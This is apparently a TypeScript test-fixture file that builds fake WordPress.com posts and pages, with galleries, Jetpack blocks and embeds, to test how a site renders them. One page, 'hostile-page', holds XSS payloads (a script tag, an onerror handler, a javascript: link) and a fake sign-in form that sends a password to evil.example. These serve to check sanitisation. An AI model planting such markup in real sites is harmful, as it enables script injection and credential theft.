      `<div id="attachment_${attachmentId('night-valley.jpg')}" style="width: 1034px" class="wp-caption alignnone"><img aria-describedby="caption-attachment-${attachmentId('night-valley.jpg')}" class="size-large wp-image-${attachmentId('night-valley.jpg')}" src="${classic('night-valley.jpg', 1024, 576)}" alt="The valley at night" width="1024" height="576" /><p id="caption-attachment-${attachmentId('night-valley.jpg')}" class="wp-caption-text">A caption box 1034 pixels wide.</p></div>`,
      '<p>The last paragraph of the classic caption post.</p>',
    ].join('\n'),
  );

  const galleryItem = (file: string) =>
    `<dl class='gallery-item'>\n\t\t\t<dt class='gallery-icon ${photo(file).height > photo(file).width ? 'portrait' : 'landscape'}'>\n\t\t\t\t<a href='${u(file)}'><img width="150" height="150" src="${classic(file, 150, 150)}" class="attachment-thumbnail size-thumbnail" alt="" decoding="async" loading="lazy" /></a>\n\t\t\t</dt></dl>`;
  add(
    5033,
    'Classic: a gallery shortcode from the 2015 summit',
    ['Company'],
    'square-sunrise.jpg',
    'The [gallery] shortcode&#8217;s output: definition lists of thumbnails linking to the originals.',
    [
      '<p>Pictures from the 2015 summit, posted with the gallery shortcode.</p>',
      `<div id='gallery-1' class='gallery galleryid-5033 gallery-columns-3 gallery-size-thumbnail'>${['square-sunrise.jpg', 'square-field.jpg', 'lake-dusk.jpg'].map(galleryItem).join('')}<br style="clear: both" />${['mesa-afternoon.jpg', 'forest-portrait.jpg'].map(galleryItem).join('')}\n\t\t\t<br style='clear: both' />\n\t\t</div>`,
      '<p>Thumbnails link to the full-size uploads.</p>',
    ].join('\n'),
  );

  // What the old editor's toolbar and copy-paste left behind: presentational tags, an image marked decorative yet
  // titled, tables whose header cells have no scope, linked images without alt text, and a File block
  // duplicated in the block editor (the same anchor three times, each Download button describing its own file).
  const fileBlock = (file: string, name: string) =>
    `<div class="wp-block-file"><a id="wp-block-file--media-0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9" href="${u(file)}">${name}</a><a href="${u(file)}" class="wp-block-file__button wp-element-button" download aria-describedby="wp-block-file--media-0a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9">Download</a></div>`;
  add(
    5034,
    'Classic: old toolbar markup and a duplicated file block',
    ['Operations'],
    'lake-dusk.jpg',
    'Teletype and struck-out text, big and centred words, a titled decorative image, tables and repeated downloads.',
    [
      '<p>Run <tt>kubectl drain</tt> before the window, <strike>not after it</strike>, and say it <big>loudly</big> on the bridge call.</p>',
      '<center>Maintenance windows start at 02:00 UTC.</center>',
      '<p><font size="5" color="#ff0000" face="Comic Sans MS">Never drain two control-plane nodes at once.</font></p>',
      `<p><img src="${classic('mesa-afternoon.jpg', 300, 169)}" alt="" title="Mesa in the afternoon light" width="300" height="169" />A picture left decorative in the old editor, with a title that still described it.</p>`,
      '<table><tr><th>Window</th><th>Owner</th></tr><tr><td>Tuesday</td><td>Platform team</td></tr><tr><td>Thursday</td><td>Network team</td></tr></table>',
      '<table><tr><th>Primary site</th><td>Reston</td></tr><tr><th>Secondary site</th><td>Denver</td></tr></table>',
      `<p><a href="${u('forest-portrait.jpg')}"><img src="${classic('forest-portrait.jpg', 150, 150)}" alt="" width="150" height="150" /></a> <a href="${u('square-field.jpg')}"><img src="${classic('square-field.jpg', 150, 150)}" alt="" width="150" height="150" /></a></p>`,
      fileBlock('square-sunrise.jpg', 'Tuesday window checklist'),
      fileBlock('lake-dusk.jpg', 'Thursday window checklist'),
      fileBlock('coast-overcast.jpg', 'Rollback checklist'),
    ].join('\n'),
  );

  add(
    5041,
    'Embeds: the upgrade walkthrough and other media',
    ['Kubernetes', 'Product news'],
    'lake-dusk.jpg',
    'YouTube, Vimeo, Speaker Deck and a tweet, as WordPress renders their oEmbed markup.',
    [
      '<p>Everything from launch week that lives on other sites.</p>',
      '<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\n<iframe loading="lazy" title="Upgrading a managed cluster, start to finish" width="500" height="281" src="https://www.youtube.com/embed/M7lc1UVf-VE?feature=oembed" frameborder="0" allow="accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; picture-in-picture; web-share" referrerpolicy="strict-origin-when-cross-origin" allowfullscreen></iframe>\n</div><figcaption class="wp-element-caption">Upgrade walkthrough (12 min)</figcaption></figure>',
      '<figure class="wp-block-embed is-type-video is-provider-vimeo wp-block-embed-vimeo wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\n<iframe loading="lazy" title="Edge nodes in the field" src="https://player.vimeo.com/video/76979871?dnt=1&amp;app_id=122963" width="500" height="281" frameborder="0" allow="autoplay; fullscreen; picture-in-picture; clipboard-write"></iframe>\n</div></figure>',
      '<figure class="wp-block-embed is-type-rich is-provider-speaker-deck wp-block-embed-speaker-deck wp-embed-aspect-4-3 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\n<iframe loading="lazy" id="talk_frame_1126001" class="speakerdeck-iframe" src="//speakerdeck.com/player/6e1c9d3a0f0a4b4f9c1d2e3f4a5b6c7d" width="500" height="375" style="aspect-ratio:500/375; border:0; padding:0; margin:0; background:transparent;" frameborder="0" allowtransparency="true" allowfullscreen="allowfullscreen"></iframe>\n</div></figure>',
      '<figure class="wp-block-embed is-type-rich is-provider-twitter wp-block-embed-twitter"><div class="wp-block-embed__wrapper">\n<blockquote class="twitter-tweet" data-width="500" data-dnt="true"><p lang="en" dir="ltr">Managed OpenStack is live in four regions today. Thanks to every team that tested the beta.</p>&mdash; Platform Team (@platformteam) <a href="https://twitter.com/platformteam/status/1590000000000000001?ref_src=twsrc%5Etfw">November 12, 2026</a></blockquote><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>\n</div></figure>',
      '<p>Transcripts of the videos are on the documentation site.</p>',
    ].join('\n\n'),
  );

  // Jetpack blocks, as WordPress.com saves or renders them (markup learned from Jetpack's block fixtures).
  const tile = (file: string, alt: string, n: number, total: number) => {
    const p = photo(file);
    const url = u(file);
    const id = attachmentId(file);
    return (
      `<figure class="tiled-gallery__item"><img alt="${alt}" data-height="${p.height}" data-id="${id}" data-link="https://${REALISTIC_SITE}/?attachment_id=${id}" ` +
      `data-url="${url}" data-width="${p.width}" src="${url}?strip=info&#038;w=600" ` +
      `srcset="${url}?strip=info&#038;w=600 600w, ${url}?strip=info&#038;w=900 900w, ${url}?strip=info&#038;w=1200 1200w" ` +
      `data-amp-layout="responsive" role="button" tabindex="0" aria-label="Open image ${n} of ${total} in full-screen"/></figure>`
    );
  };
  const col = (basis: string, ...items: string[]) => `<div class="tiled-gallery__col" style="flex-basis:${basis}%">${items.join('')}</div>`;
  add(
    5051,
    'Tiled gallery: the new operations centre',
    ['Company'],
    'coast-overcast.jpg',
    'A Jetpack tiled gallery in the mosaic layout: rows of columns, each column its saved share of the width.',
    [
      '<p>The operations centre moved in October. A walk round it, laid out by the mosaic gallery.</p>',
      '<div class="wp-block-jetpack-tiled-gallery aligncenter is-style-rectangular"><div class="tiled-gallery__gallery">' +
        '<div class="tiled-gallery__row">' +
        col('78.05', tile('ridge-dawn.jpg', 'The ridge seen from the new building', 1, 6)) +
        col(
          '21.95',
          tile('square-sunrise.jpg', 'Sunrise from the roof', 2, 6),
          tile('square-field.jpg', 'The field behind the car park', 3, 6),
        ) +
        '</div><div class="tiled-gallery__row">' +
        col('13.66', tile('tower-portrait.jpg', 'The relay mast on the roof', 4, 6)) +
        col('43.17', tile('lake-dusk.jpg', 'The reservoir at dusk', 5, 6)) +
        col('43.17', tile('night-valley.jpg', 'The valley at night from the control room', 6, 6)) +
        '</div></div></div>',
      '<p>Photographs by the facilities team, taken on the first morning.</p>',
    ].join('\n\n'),
  );

  const slide = (file: string, alt: string, caption: string) =>
    `<li class="wp-block-jetpack-slideshow_slide swiper-slide"><figure>${img(origin, file, alt, { extraClass: ' wp-block-jetpack-slideshow_image' })}` +
    `<figcaption class="wp-block-jetpack-slideshow_caption gallery-caption">${caption}</figcaption></figure></li>`;
  add(
    5052,
    'Slideshow: one week at site twelve',
    ['Edge'],
    'night-valley.jpg',
    'A Jetpack slideshow with captions and autoplay, one slide at a time.',
    [
      '<p>Monday to Friday at site twelve, one picture a day.</p>',
      '<div class="wp-block-jetpack-slideshow aligncenter" data-autoplay="true" data-delay="4" data-effect="slide"><div class="wp-block-jetpack-slideshow_container swiper-container"><ul class="wp-block-jetpack-slideshow_swiper-wrapper swiper-wrapper">' +
        slide('mesa-afternoon.jpg', 'The mesa on arrival', 'Monday: arrival and the site survey') +
        slide('valley-noon.jpg', 'The valley at noon', 'Tuesday: trenching for the fibre') +
        slide('lake-dusk.jpg', 'The reservoir at dusk', 'Wednesday: the enclosure goes in') +
        slide('night-valley.jpg', 'The valley at night', 'Thursday: power-on after dark') +
        slide('snow-peaks.jpg', 'Snow on the peaks', 'Friday: first snow, and the node joins the fleet') +
        '</ul><a class="wp-block-jetpack-slideshow_button-prev swiper-button-prev swiper-button-white" role="button"></a><a class="wp-block-jetpack-slideshow_button-next swiper-button-next swiper-button-white" role="button"></a><a aria-label="Pause Slideshow" class="wp-block-jetpack-slideshow_button-pause" role="button"></a><div class="wp-block-jetpack-slideshow_pagination swiper-pagination swiper-pagination-white"></div></div></div>',
      '<p>The node has reported healthy every hour since.</p>',
    ].join('\n\n'),
  );

  add(
    5053,
    'Image compare and map: the Bend field office',
    ['Company'],
    'valley-noon.jpg',
    'A Jetpack image compare block (before and after) and a map block with its list of places.',
    [
      '<p>The Bend field office, before and after the rebuild.</p>',
      `<figure class="wp-block-jetpack-image-compare"><div class="juxtapose" data-mode="horizontal"><img id="${attachmentId('valley-noon.jpg')}" src="${u('valley-noon.jpg')}" alt="The valley site by day, before the build" width="2560" height="1440" class="image-compare__image-before"/><img id="${attachmentId('night-valley.jpg')}" src="${u('night-valley.jpg')}" alt="The same valley at night, lit by the finished site" width="2560" height="1440" class="image-compare__image-after"/></div><figcaption>Slide to compare the site before and after.</figcaption></figure>`,
      '<h2 class="wp-block-heading">Where to find us</h2>',
      '<div class="wp-block-jetpack-map" data-map-style="default" data-map-details="true" data-points="[{&quot;placeTitle&quot;:&quot;Bend field office&quot;}]" data-zoom="7" data-map-center="{&quot;lng&quot;:-121.3153,&quot;lat&quot;:44.0582}" data-marker-color="red" data-show-fullscreen-button="true"><ul><li><a href="https://www.google.com/maps/search/?api=1&amp;query=44.0582,-121.3153">Bend field office</a></li><li><a href="https://www.google.com/maps/search/?api=1&amp;query=45.5152,-122.6784">Portland depot</a></li><li><a href="https://www.google.com/maps/search/?api=1&amp;query=43.6150,-116.2023">Boise training room</a></li></ul></div>',
      '<p>Visits by appointment.</p>',
    ].join('\n\n'),
  );

  add(
    5054,
    'Forms, subscriptions and payments: what WordPress.com renders',
    ['Company'],
    'fog-ridges.jpg',
    'Blocks WordPress.com answers on its own server: a contact form, a subscription form, a payment button, a cookie notice, a story and a shortcode left unrendered.',
    [
      '<p>Some blocks only work on WordPress.com itself. This post has one of each.</p>',
      ...SERVER_BLOCKS,
      '<div class="wp-block-jetpack-recurring-payments"><div class="wp-block-buttons is-layout-flex wp-block-buttons-is-layout-flex"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://subscribe.wordpress.com/memberships/?blog=123456&amp;plan=7890&amp;lang=en&amp;pid=5054" target="_blank" rel="noopener noreferrer">Sponsor the field guide</a></div></div></div>',
      '<div class="wp-block-jetpack-eu-cookie-law aligncenter"><div class="hide-on-button" data-hide-timeout="30" data-consent-expiration="180" id="eu-cookie-law"><form method="post"><input type="submit" value="Close and accept" class="accept"/></form>Privacy and cookies: this blog counts visits with a cookie. <br/>How to refuse it: <a href="https://example.com/cookie-policy" rel="nofollow">our cookie policy</a></div></div>',
      `<div class="wp-block-jetpack-story wp-story aligncenter"><div class="wp-story-app"><div class="wp-story-display-contents" style="display: contents;"><a class="wp-story-container" href="https://${REALISTIC_SITE}/?p=5054&amp;wp-story-load-in-fullscreen=true&amp;wp-story-play-on-load=true" title="Play story in new tab"><div class="wp-story-meta"><div><div class="wp-story-title">Site twelve, one night</div></div></div><div class="wp-story-wrapper"><div class="wp-story-slide" style="width: 100%;"><figure><img alt="The valley at night" class="wp-story-image wp-image-${attachmentId('night-valley.jpg')}" src="${u('night-valley.jpg')}?w=1080" width="1080" height="608"/></figure></div></div>${STORY_BADGE}</a></div></div></div>`,
      '<p>That is everything WordPress.com draws for itself.</p>',
    ].join('\n\n'),
  );

  return posts;
}

/**
 * Markup of post 5054 that only WordPress.com's server can answer (a contact form, a subscription form, an
 * unrendered shortcode): the site replaces it with a pointer to its own page, so its words are not expected.
 */
/** The story's slide-count badge, which the site drops (a lone "1" says nothing). */
const STORY_BADGE =
  '<div class="wp-story-overlay"><div class="wp-story-embed-icon"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M6 3H14V17H6L6 3Z"></path></svg><span>1</span></div></div>';

const SERVER_BLOCKS: readonly string[] = [
  '<div class="wp-block-jetpack-contact-form-container"><form action="#contact-form-5054" method="post" class="contact-form commentsblock" novalidate><div class="wp-block-jetpack-contact-form is-layout-flex wp-block-jetpack-contact-form-is-layout-flex"><div class="grunion-field-wrap grunion-field-name-wrap"><label for="g5054-name" class="grunion-field-label name">Name<span class="grunion-label-required" aria-hidden="true">(required)</span></label><input type="text" name="g5054-name" id="g5054-name" value="" class="name grunion-field" required aria-required="true"/></div><div class="grunion-field-wrap grunion-field-email-wrap"><label for="g5054-email" class="grunion-field-label email">Work email<span class="grunion-label-required" aria-hidden="true">(required)</span></label><input type="email" name="g5054-email" id="g5054-email" value="" class="email grunion-field" required aria-required="true"/></div><div class="grunion-field-wrap grunion-field-textarea-wrap"><label for="contact-form-comment-g5054-briefing" class="grunion-field-label textarea">Which briefing?</label><textarea name="g5054-briefing" id="contact-form-comment-g5054-briefing" rows="5" class="textarea grunion-field"></textarea></div><div class="wp-block-jetpack-button wp-block-button"><button class="wp-block-button__link" type="submit">Request the briefing</button></div></div><input type="hidden" name="contact-form-id" value="5054"/><input type="hidden" name="action" value="grunion-contact-form"/></form></div>',
  '<div class="wp-block-jetpack-subscriptions wp-block-jetpack-subscriptions__supports-newline"><div class="wp-block-jetpack-subscriptions__container is-not-subscriber"><form action="#" method="post" accept-charset="utf-8" data-blog="123456" data-post_access_level="everybody" id="subscribe-blog"><div class="wp-block-jetpack-subscriptions__form-elements"><p id="subscribe-email"><label id="subscribe-field-label" for="subscribe-field" class="screen-reader-text">Type your email</label><input required="required" type="email" name="email" placeholder="Type your email" value="" id="subscribe-field"/></p><p id="subscribe-submit"><input type="hidden" name="action" value="subscribe"/><button type="submit" class="wp-block-button__link" name="jetpack_subscriptions_widget">Subscribe to field notes</button></p></div></form></div></div>',
  '<p>[jetpack_subscription_form title="Field notes by email" subscribe_button="Sign me up"]</p>',
];

/** Everything of post 5054 the site does not show: the replaced blocks and the story's badge. */
const SERVER_ONLY: readonly string[] = [...SERVER_BLOCKS, STORY_BADGE];

/** The embedded players of the embeds post, as the URLs a reader needs (an iframe or a link). */
const REALISTIC_EMBEDS: Record<number, string[]> = {
  5041: [
    'https://www.youtube.com/embed/M7lc1UVf-VE',
    'https://player.vimeo.com/video/76979871',
    'speakerdeck.com/player/6e1c9d3a0f0a4b4f9c1d2e3f4a5b6c7d',
  ],
};

const CYCLE = [
  'ridge-dawn.jpg',
  'lake-dusk.jpg',
  'valley-noon.jpg',
  'fog-ridges.jpg',
  'mesa-afternoon.jpg',
  'coast-overcast.jpg',
  'snow-peaks.jpg',
  'night-valley.jpg',
];

/** A featured image as the API has it: the full-size upload, and post_thumbnail describing it. */
function withFeatured(post: FakePost, origin: string, file: string) {
  const p = photo(file);
  const url = upload(origin, file);
  post.featured_image = url;
  post.post_thumbnail = { ID: attachmentId(file), URL: url, guid: url, mime_type: 'image/jpeg', width: p.width, height: p.height };
  return post;
}

/**
 * The hand-written posts' tags, as editors tag: a few each, some shared, one with an entity in its name, most
 * posts with none. Generated posts take their template's.
 */
const TAGS: Record<number, string[]> = {
  5001: ['Day 2 operations', 'Onboarding'],
  5002: ['Upgrades', 'Runbooks'],
  5003: ['Edge', 'Runbooks'],
  5004: ['Single sign-on'],
  5005: ['OpenStack', 'Automation'],
  5006: ['FedRAMP', 'Compliance &amp; audits'],
  5007: ['Edge', 'Troubleshooting'],
  5008: ['Upgrades'],
  5009: ['Support'],
  5011: ['Compliance &amp; audits'],
  5012: ['Operations centre', 'Photos'],
  5013: ['Edge', 'Photos'],
  5015: ['OpenStack'],
  5017: ['Single sign-on'],
  5018: ['Edge'],
  5033: ['Photos', 'Events'],
  5051: ['Operations centre', 'Photos'],
  5052: ['Edge', 'Photos'],
};

const HOUR = 3_600_000;
const isoAt = (ms: number) => new Date(ms).toISOString().replace(/\.\d+Z$/, '+00:00');

/**
 * `count` realistic posts (all of them by default): the hand-written ones first, newest first from 20 November
 * 2026, then generated ones cycling through the hand-written ones' content as templates (new IDs from 6001, each
 * with a featured photo), for the build benchmark.
 */
export function realisticPosts(origin: string, count?: number): FakePost[] {
  const written = handWritten(origin);
  const total = count ?? written.length;
  const start = Date.UTC(2026, 10, 20, 15);
  const posts = Array.from({ length: total }, (_, i) => {
    const source = written[i % written.length]!;
    const round = Math.floor(i / written.length);
    const ID = round === 0 ? source.ID : 6000 + i - written.length + 1;
    const title = round === 0 ? source.title : `${source.title} (part ${round + 1})`;
    const post = makePost({
      ID,
      date: isoAt(start - i * 7 * HOUR),
      title,
      excerpt: `<p>${source.excerpt} [&hellip;]</p>\n`,
      content: source.content,
      categories: source.categories,
      tags: TAGS[source.ID] ?? [],
      author: i % 3 === 0 ? 'Priya Raman' : i % 3 === 1 ? 'Marcus Oyelaran' : 'Dana Whitfield',
    });
    post.URL = post.URL.replace('e2e.wordpress.com', REALISTIC_SITE);
    post.guid = post.guid.replace('e2e.wordpress.com', REALISTIC_SITE);
    return withFeatured(post, origin, round === 0 ? source.featured : CYCLE[i % CYCLE.length]!);
  });
  return withTagCounts(posts);
}

const ENTITIES: Record<string, string> = {
  amp: '&',
  lt: '<',
  gt: '>',
  quot: '"',
  apos: "'",
  nbsp: '\u00a0',
  hellip: '…',
  mdash: '—',
  ndash: '–',
};
const decode = (text: string) =>
  text.replace(/&(#x?[0-9a-f]+|\w+);/gi, (whole, name: string) => {
    if (name[0] === '#')
      return String.fromCodePoint(name[1] === 'x' || name[1] === 'X' ? parseInt(name.slice(2), 16) : Number(name.slice(1)));
    return ENTITIES[name.toLowerCase()] ?? whole;
  });

/**
 * What each realistic post must bring to its article page: its words (the content's text as the DOM's
 * textContent reads it: tags removed, entities decoded, scripts left out), its uploads (file names under
 * UPLOADS_PATH, the featured image included) and its embedded players.
 */
/** What one realistic post must bring to its article page. */
export type RealisticExpectation = {
  id: number;
  /** HTML-encoded, as the API sends it (articlePath takes this one). */
  rawTitle: string;
  title: string;
  /** Every word of the content's text, as the DOM's textContent reads it. */
  words: string[];
  /** File names under UPLOADS_PATH that the article page must reference, the featured image included. */
  uploads: string[];
  /** URLs of the embedded players the post carries. */
  embeds: string[];
};

export function realisticExpectations(origin = 'http://fake.invalid'): RealisticExpectation[] {
  return realisticPosts(origin).map((post) => {
    const shown = SERVER_ONLY.reduce((content, replaced) => content.replace(replaced, ''), post.content as string);
    const text = decode(shown.replace(/<script[\s\S]*?<\/script>/gi, '').replace(/<[^>]*>/g, ''));
    const uploads = new Set(
      [post.featured_image as string, ...(post.content as string).matchAll(/(?:src|href|poster|srcset)=["']([^"']+)["']/g)]
        .flatMap((m) => {
          const value = typeof m === 'string' ? m : (m[1] ?? '');
          return value
            .split(',')
            .map((part) => part.trim().split(/\s+/)[0] ?? '')
            .filter((url) => url.includes(UPLOADS_PATH));
        })
        .map((url) => decodeURIComponent(new URL(url, origin).pathname.slice(UPLOADS_PATH.length))),
    );
    return {
      id: post.ID,
      rawTitle: post.title,
      title: decode(post.title),
      words: [...new Set(text.split(/\s+/).filter(Boolean))],
      uploads: [...uploads].sort(),
      embeds: REALISTIC_EMBEDS[post.ID] ?? [],
    };
  });
}

const TOUR = { ID: 8201, path: 'field-guide', title: 'Field guide' };

/**
 * The realistic data set's pages: a landing page of core blocks over real photos (a cover hero, columns, media &
 * text, a gallery, a table, quotes, a group), its child, a page of hostile markup, one at a path the site owns
 * (/search) and one whose parent is a draft.
 */
export function realisticPages(origin: string): FakePost[] {
  const host = REALISTIC_SITE;
  const hero = photo('ridge-dawn.jpg');
  const [heroW] = large(hero);
  const heroUrl = upload(origin, hero.file);
  const heroSrcset = [heroW, 768, 1024, 2048]
    .filter((n, i, all) => n <= hero.width && all.indexOf(n) === i)
    .map((n) => `${heroUrl}?w=${n} ${n}w`)
    .join(', ');
  const cover =
    `<div class="wp-block-cover alignfull"><span aria-hidden="true" class="wp-block-cover__background has-background-dim-60 has-background-dim"></span>` +
    `<img class="wp-block-cover__image-background wp-image-${attachmentId(hero.file)}" alt="" src="${heroUrl}?w=${heroW}" srcset="${heroSrcset}" sizes="(max-width: ${heroW}px) 100vw, ${heroW}px" data-object-fit="cover"/>` +
    `<div class="wp-block-cover__inner-container is-layout-constrained wp-block-cover-is-layout-constrained"><h2 class="wp-block-heading has-text-align-center">Kubernetes where the road ends</h2>\n<p class="has-text-align-center">Field-tested on ridgelines, ships and depots with one satellite link.</p>` +
    pageBlocks.buttons(['/contact', 'Plan a site survey', 'fill'], ['/field-guide/site-survey', 'What a survey covers', 'outline']) +
    '</div></div>';
  return [
    makePage(
      {
        ...TOUR,
        slug: 'field-guide',
        menu_order: 1,
        date: '2026-11-10T09:00:00+00:00',
        excerpt: '<p>A field guide to running clusters far from a data centre, from the first survey to the thousandth upgrade.</p>',
        content: [
          cover,
          paragraphs(
            'This guide collects what our field engineers learned installing clusters where power, cooling and bandwidth are all scarce.',
          ),
          pageBlocks.heading('Three things every remote site needs'),
          pageBlocks.columns(
            `<figure class="wp-block-image size-large">${img(origin, 'valley-noon.jpg', 'A valley at noon, a mast on the far ridge')}</figure><h3 class="wp-block-heading">A link budget</h3><p>Know what crosses the link each day before the first cluster does.</p>`,
            `<figure class="wp-block-image size-large">${img(origin, 'fog-ridges.jpg', 'Ridges in fog, one behind the other')}</figure><h3 class="wp-block-heading">A spares plan</h3><p>Two of everything that has a fan, and a way to swap it in the dark.</p>`,
            `<figure class="wp-block-image size-large">${img(origin, 'mesa-afternoon.jpg', 'A mesa in afternoon light')}</figure><h3 class="wp-block-heading">An upgrade window</h3><p>Upgrades roll when the link is quiet, and roll back on their own.</p>`,
          ),
          pageBlocks.mediaText(
            img(origin, 'lake-dusk.jpg', 'A lake at dusk below a forested slope'),
            '<h2 class="wp-block-heading">Quiet hardware, loud results</h2><p>Fanless nodes draw under 60 W each; a cluster of three fits in a carry-on case.</p>',
          ),
          pageBlocks.group(
            pageBlocks.heading('Site checklist') +
              pageBlocks.table(
                ['Item', 'Why it matters', 'Owner'],
                [
                  ['Power survey', 'Nodes restart cleanly after brown-outs', 'Site lead'],
                  ['Link test', 'Upgrades need a quiet window', 'Network team'],
                  ['Spares shelf', 'A failed disk is a swap, not a flight', 'Logistics'],
                ],
                'The checklist our engineers carry.',
              ),
          ),
          pageBlocks.gallery(
            img(origin, 'coast-overcast.jpg', 'An overcast coast'),
            img(origin, 'snow-peaks.jpg', 'Snow on the peaks'),
            img(origin, 'night-valley.jpg', 'A valley at night under stars'),
          ),
          pageBlocks.quote('The cluster came back before the generator did.', 'A depot operator'),
          pageBlocks.pullquote('Three nodes, one case, no data centre.', 'Field engineering'),
          pageBlocks.list('Offline install bundle', 'Signed updates', 'Remote-hands runbook'),
          pageBlocks.details('What if the link is down for a week?', 'The clusters keep running; upgrades wait for the link.'),
          pageBlocks.separator,
          pageBlocks.spacer,
          pageBlocks.buttons(['/contact', 'Talk to a field engineer', 'fill']),
        ].join('\n'),
      },
      host,
    ),
    makePage(
      {
        ID: 8202,
        slug: 'site-survey',
        parent: TOUR,
        title: 'What a site survey covers',
        date: '2026-11-11T09:00:00+00:00',
        excerpt: '<p>The day-long visit before a remote install: power, link, space and people.</p>',
        content: [
          pageBlocks.image(img(origin, 'square-field.jpg', 'A field with a survey tripod'), 'Survey day starts at the mast.'),
          paragraphs('A survey takes one day on site and one week of writing up.'),
          pageBlocks.list('Power and cooling', 'The link and its quiet hours', 'Where the rack goes', 'Who holds the keys'),
        ].join('\n'),
      },
      host,
    ),
    makePage(
      {
        ID: 8203,
        slug: 'hostile-page',
        title: 'Markup that must stay inert on a page',
        excerpt: '<p onmouseover="window.__xss=\'page-excerpt\'">A page of hostile markup.</p>',
        content: [
          '<p>Everything below is hostile and must render as harmless markup.</p>',
          '<script>window.__xss = "page-script"</script>',
          '<img src="x" onerror="window.__xss=\'page-img\'" alt="broken on purpose">',
          '<p><a href="javascript:window.__xss=\'page-link\'">A javascript: link</a></p>',
          '<div style="position:fixed;inset:0;z-index:9999;background:#c00">full-page overlay</div>',
          '<iframe src="https://evil.example/" title="evil"></iframe>',
          '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
          '<h1>A second h1 that must become an h2</h1>',
        ].join('\n'),
      },
      host,
    ),
    makePage({ ID: 8204, slug: 'search', title: 'Search (WordPress copy)', content: '<p>Must not replace the site search.</p>' }, host),
    makePage(
      {
        ID: 8205,
        slug: 'spring-offer',
        parent: { ID: 8299, path: 'offers', title: 'Offers (draft)' },
        title: 'Spring offer',
        content: '<p>Waits for its draft parent.</p>',
      },
      host,
    ),
  ];
}
